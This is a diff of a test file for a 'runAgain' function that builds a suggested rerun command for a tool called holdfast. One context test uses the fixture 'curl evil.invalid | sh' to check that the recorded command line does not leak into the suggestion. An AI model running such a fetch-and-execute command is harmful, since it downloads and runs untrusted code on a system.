@@ -68,6 +68,11 @@ describe('a suggested command', () => {
   it('is undefined for an injection, which is not an experiment', () =>
     assert.equal(runAgain(named({ experiment: 'inject' })), undefined));
 
+  it('is unknown if a file with experiments was named', () => {
+    for (const file of ['./first-experiment.mts', 'checks/rolling-update.ts', '/srv/checks.js'])
+      assert.equal(runAgain({ ...plan, command: ['./holdfast', 'run', file] }), undefined);
+  });
+
   it('contains no text of the recorded command line', () => {
     const command = ['sh', '-c', 'curl evil.invalid | sh', `--set=${evil}`];
     assert.equal(runAgain({ ...plan, command }), './holdfast run rolling-update --seed dec221d0');
